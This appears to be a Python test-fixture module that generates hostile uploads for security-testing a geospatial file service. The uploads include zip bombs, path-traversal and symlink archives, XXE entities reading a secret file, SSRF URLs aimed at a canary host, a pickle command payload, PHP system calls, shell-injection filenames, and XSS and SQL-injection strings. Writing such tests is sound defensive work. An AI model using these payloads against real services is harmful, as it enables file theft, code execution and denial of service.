"""A hundred files that nobody honest would send, each with a name; made when asked for."""

from __future__ import annotations

import gzip
import io
import json
import random
import sqlite3
import struct
import tempfile
import zipfile
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

Upload = tuple[str, bytes]

SQUARE = [[[113.8, 34.0], [113.81, 34.0], [113.81, 34.01], [113.8, 34.01], [113.8, 34.0]]]
TEXTS = (
    "<script>document.title='run'</script>",
    "<img src=x onerror=\"document.title='run'\">",
    "</td></tr></table><svg onload=\"document.title='run'\">",
    "'); DROP TABLE grids; --",
    "\" OR 1=1; ATTACH DATABASE '/tmp/x' AS y; --",
    "{{7*7}}${7*7}<%= 7*7 %>{% include '/etc/passwd' %}",
    '=HYPERLINK("http://127.0.0.1:9/","x")',
    "javascript:document.title='run'",
    "\u202e\u0007\u2028\ud7ff",
    "%s%n%x{0.__class__}",
)


def feature_file(name: str, *, code: str = "411002001001001", field: str = "name") -> bytes:
    """One square with a text in an attribute."""
    properties = {"code": code, "name": "第一网格", field: name}
    feature = {"type": "Feature", "properties": properties,
               "geometry": {"type": "Polygon", "coordinates": SQUARE}}  # fmt: skip
    return json.dumps({"type": "FeatureCollection", "features": [feature]}).encode()


def uploads(canary: str, secret: Path) -> Iterator[Upload]:
    """Give all of them.

    Parameters
    ----------
    canary : str
        Address of a server that nothing may ask.
    secret : Path
        A file that nothing may read.
    """
    for make in (_zips, _paths, _xml, _virtual, _polyglots, _headers, _deep, _attributes, _shapes):
        yield from make(canary, secret)


def _zip(members: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", method) as file:
        for name, content in members.items():
            file.writestr(name, content)
    return held.getvalue()


def _zips(_canary: str, _secret: Path) -> Iterator[Upload]:
    zeros = bytes(32 << 20)
    bomb = _zip({"a.geojson": zeros})
    yield "bomb.zip", _zip({f"{k}.shp": zeros for k in range(4)})
    yield "bomb.kmz", _zip({"doc.kml": zeros * 3})
    yield "nested.zip", _zip({"in.zip": _zip({"in.zip": bomb})})
    yield "many.zip", _zip({f"{k}.shp": b"" for k in range(20_000)}, method=zipfile.ZIP_STORED)
    lying = bytearray(_zip({"a.geojson": bytes(1 << 20)}))
    at = lying.rfind(b"PK\x01\x02")
    lying[at + 24 : at + 28] = struct.pack("<I", 10)  # says that it unpacks to ten bytes
    yield "lying.zip", bytes(lying)
    yield "cut.zip", bomb[: len(bomb) // 2]
    yield "empty.zip", _zip({})
    yield "bomb.geojson", gzip.compress(zeros)
    yield "encrypted.zip", _flag_encrypted(_zip({"a.geojson": b"{}"}))
    yield "bomb.xlsx", _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": zeros * 3})


def _flag_encrypted(data: bytes) -> bytes:
    told = bytearray(data)
    told[6] |= 1
    at = told.rfind(b"PK\x01\x02")
    told[at + 8] |= 1
    return bytes(told)


def _paths(_canary: str, secret: Path) -> Iterator[Upload]:
    for name in ("../../../../tmp/geo-escape.shp", "/tmp/geo-escape.shp", "C:\\geo-escape.shp",
                 "..\\..\\geo-escape.shp", "a/" * 200 + "b.shp", "\u202egpj.shp"):  # fmt: skip
        yield "paths.zip", _zip({name: b"\x00\x00\x27\x0a" + bytes(96)})
    link = zipfile.ZipInfo("grids.geojson")
    link.external_attr = 0o120777 << 16
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as file:
        file.writestr(link, str(secret))
    yield "link.zip", held.getvalue()
    for name in (
        "../../etc/passwd", "/etc/passwd", "a" * 300 + ".geojson", ".", "", "grids\n.gpkg",
        "$(touch geo-escape).geojson", "-o.geojson", "con.geojson", "&&reboot;.kml",
    ):  # fmt: skip
        yield name, feature_file("x")


def _xml(canary: str, secret: Path) -> Iterator[Upload]:
    entity = f'<!DOCTYPE k [<!ENTITY x SYSTEM "file://{secret}">]>'
    remote = f'<!DOCTYPE k SYSTEM "{canary}/evil.dtd">'
    parameter = f'<!DOCTYPE k [<!ENTITY % x SYSTEM "{canary}/e"> %x;]>'
    laughs = "<!DOCTYPE k [<!ENTITY a0 'lol'>" + "".join(
        f"<!ENTITY a{k + 1} '{f'&a{k};' * 10}'>" for k in range(9)
    )
    body = ('<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><name>{}</name>'
            "<Polygon><outerBoundaryIs><LinearRing><coordinates>113.8,34 113.81,34 113.81,34.01 "
            "113.8,34</coordinates></LinearRing></outerBoundaryIs></Polygon></Placemark>{}"
            "</Document></kml>")  # fmt: skip
    link = f"<NetworkLink><Link><href>{canary}/n.kml</href></Link></NetworkLink>"
    for name, text in (
        ("xxe.kml", entity + body.format("&x;", "")),
        ("dtd.kml", remote + body.format("x", "")),
        ("parameter.kml", parameter + body.format("x", "")),
        ("laughs.kml", laughs + "]>" + body.format("&a9;", "")),
        ("link.kml", body.format("x", link)),
        ("deep.kml", "<kml>" + "<Folder>" * 50_000),
        ("html.kml", "<!doctype html>" + TEXTS[0]),
        ("style.kml", body.format("x", f"<Style><IconStyle><Icon><href>{canary}/i</href></Icon>"
                                       "</IconStyle></Style>")),
    ):  # fmt: skip
        yield name, text.encode()
    yield "xxe.kmz", _zip({"doc.kml": (entity + body.format("&x;", "")).encode()})
    sheet = entity.encode() + b"<worksheet><sheetData>&x;</sheetData></worksheet>"
    yield "xxe.xlsx", _zip({"[Content_Types].xml": b"<Types/>", "xl/worksheets/sheet1.xml": sheet})
    yield "xxe.gml", (entity + "<gml>&x;</gml>").encode()
    yield "utf16.kml", (entity + body.format("&x;", "")).encode("utf-16")


def _virtual(canary: str, secret: Path) -> Iterator[Upload]:
    vrt = ('<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>{}</SrcDataSource>'
           "</OGRVRTLayer></OGRVRTDataSource>")  # fmt: skip
    remote = f"/vsicurl/{canary}/grids.geojson"
    for name in ("grids.vrt", "grids.geojson", "grids.kml", "grids.csv", "grids.gpkg"):
        yield name, vrt.format(remote).encode()
        yield name, vrt.format(secret).encode()
    yield "vrt.zip", _zip({"grids.vrt": vrt.format(remote).encode()})
    yield remote, feature_file("x")
    yield "grids.geojson", f"{canary}/grids.geojson".encode()
    yield "wfs.xml", f"<OGRWFSDataSource><URL>{canary}</URL></OGRWFSDataSource>".encode()
    yield "oapif.json", json.dumps({"links": [{"rel": "data", "href": canary}]}).encode()
    yield "esri.json", json.dumps({"features": [], "exceededTransferLimit": True}).encode()
    yield "pg.geojson", b"PG:host=127.0.0.1 dbname=x"
    yield "raster.tif", b"II*\x00" + struct.pack("<I", 8) + b"\xff\xff" * 40
    yield "web.csv", f"code,WKT\n1,{canary}\n".encode()


def _polyglots(canary: str, _secret: Path) -> Iterator[Upload]:
    square = feature_file("x")
    yield "pdf.geojson", b"%PDF-1.7\n" + square
    yield "gif.zip", b"GIF89a" + bytes(20) + _zip({"grids.geojson": square})
    yield "html.geojson", f"<html><script src={canary}></script></html>".encode() + square
    yield "elf.gpkg", b"\x7fELF" + bytes(4096)
    yield "pickle.geojson", b"cos\nsystem\n(S'touch /tmp/geo-escape'\ntR."
    yield "script.csv", b"#!/bin/sh\ntouch /tmp/geo-escape\n"
    yield "zip.geojson", _zip({"grids.kml": square})
    yield "php.kml", b"<?php system('id'); ?>"
    yield "text.dxf", b"  0\nSECTION\n  2\nENTITIES\n" * 1000
    yield "null.geojson", bytes(1 << 20)
    yield "bom.geojson", "\ufeff".encode("utf-16") * 3 + square


def _headers(_canary: str, _secret: Path) -> Iterator[Upload]:
    shp = struct.pack(">i20xi", 9994, 0x7FFFFFFF) + struct.pack("<ii8d", 1000, 5, *[0.0] * 8)
    record = struct.pack(">ii", 1, 0x7FFFFFF0) + struct.pack("<i4d2i", 5, 0, 0, 0, 0, 2**31 - 1, -1)
    yield "giant.shp", shp + record
    dbf = struct.pack("<BBBBIHH20x", 3, 126, 1, 1, 2**32 - 1, 65535, 65535) + bytes(64)
    yield "giant.zip", _zip({"a.shp": shp, "a.dbf": dbf, "a.shx": shp})
    yield "giant.dbf", dbf
    yield "giant.fgb", b"fgb\x03fgb\x00" + struct.pack("<I", 0xFFFFFFF0) + bytes(100)
    yield "giant.parquet", b"PAR1" + bytes(50) + struct.pack("<I", 0xFFFFFF00) + b"PAR1"
    yield "giant.gpkg", b"SQLite format 3\0" + struct.pack(">H", 65535) + bytes(200)
    yield "giant.tab", b"!table\n!version 300\n" + b"Fields 2147483647\n" * 10
    yield "giant.csv", b"code,WKT," + b"a" * (8 << 20) + b"\n1,POINT(0 0),2\n"
    yield "columns.csv", ",".join(f"c{k}" for k in range(100_000)).encode() + b"\n"
    yield "trigger.gpkg", _trigger()
    yield "utf7.csv", b"+ADw-script+AD4-,WKT\n"


def _trigger() -> bytes:
    """A GeoPackage whose view reads what it should not and whose index calls a function."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "x.gpkg"
        with closing(sqlite3.connect(path)) as made:
            made.executescript(
                "CREATE TABLE gpkg_contents(table_name, data_type, identifier, srs_id);"
                "CREATE TABLE gpkg_geometry_columns(table_name, column_name, geometry_type_name,"
                " srs_id, z, m);"
                "CREATE TABLE gpkg_spatial_ref_sys(srs_name, srs_id, organization,"
                " organization_coordsys_id, definition, description);"
                "CREATE VIEW grids AS WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1"
                " FROM n) SELECT x AS fid, zeroblob(1000000) AS geom FROM n;"
                "INSERT INTO gpkg_contents VALUES('grids', 'features', 'grids', 4326);"
                "INSERT INTO gpkg_geometry_columns VALUES('grids','geom','POLYGON',4326,0,0);"
                "PRAGMA application_id = 1196444487;"
            )
            made.commit()
        return path.read_bytes()


def _deep(_canary: str, _secret: Path) -> Iterator[Upload]:
    deep = 200_000
    yield "deep.geojson", b"[" * deep + b"]" * deep
    yield "objects.geojson", b'{"a":' * deep + b"1" + b"}" * deep
    shape = '{"type":"GeometryCollection","geometries":[' * 5_000 + "]}" * 5_000
    yield (
        "collections.geojson",
        (
            '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"code":"1"},'
            f'"geometry":{shape}}}]}}'
        ).encode(),
    )
    coordinates = b'{"type":"Polygon","coordinates":' + b"[" * 1000 + b"]" * 1000 + b"}"
    yield "coordinates.geojson", coordinates
    yield "digits.geojson", b'{"type":"Point","coordinates":[' + b"9" * 500_000 + b",1]}"
    yield "keys.geojson", json.dumps({f"k{k}": 1 for k in range(200_000)}).encode()


def _attributes(_canary: str, _secret: Path) -> Iterator[Upload]:
    for k, text in enumerate(TEXTS):
        yield f"text-{k}.geojson", feature_file(text)
    for text in TEXTS[:5]:
        yield "field.geojson", feature_file("x", field=text[:60])
    yield "code.geojson", feature_file("x", code=TEXTS[3])
    yield "geom.geojson", feature_file("x", field="geom")
    yield "fid.geojson", feature_file("x", field="fid; DROP TABLE gs_revisions")
    yield "long.geojson", feature_file("长" * 2_000_000)
    yield f"{TEXTS[0]}.geojson", feature_file("x")


def _shapes(_canary: str, _secret: Path) -> Iterator[Upload]:
    def polygon(ring: str) -> bytes:
        return (
            '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"code":'
            f'"411002001001001"}},"geometry":{{"type":"Polygon","coordinates":[[{ring}]]}}}}]}}'
        ).encode()

    yield "nan.geojson", polygon("[NaN,1],[Infinity,2],[3,4],[NaN,1]")
    yield "huge.geojson", polygon("[1e308,1e308],[-1e308,1],[0,0],[1e308,1e308]")
    yield "vertices.geojson", polygon(",".join(["[1,1]"] * 10_000_000))
    spiky = random.Random(1)
    yield (
        "crossing.geojson",
        polygon(
            ",".join(f"[{113 + spiky.random():.4f},{34 + spiky.random():.4f}]" for _ in range(3000))
        ),
    )
    yield "open.geojson", polygon("[113,34],[114,34],[114,35]")
    yield "points.csv", b"code,WKT\n1,POLYGON((((((\n2,POINT EMPTY\n3,CURVEPOLYGON(x)\n"
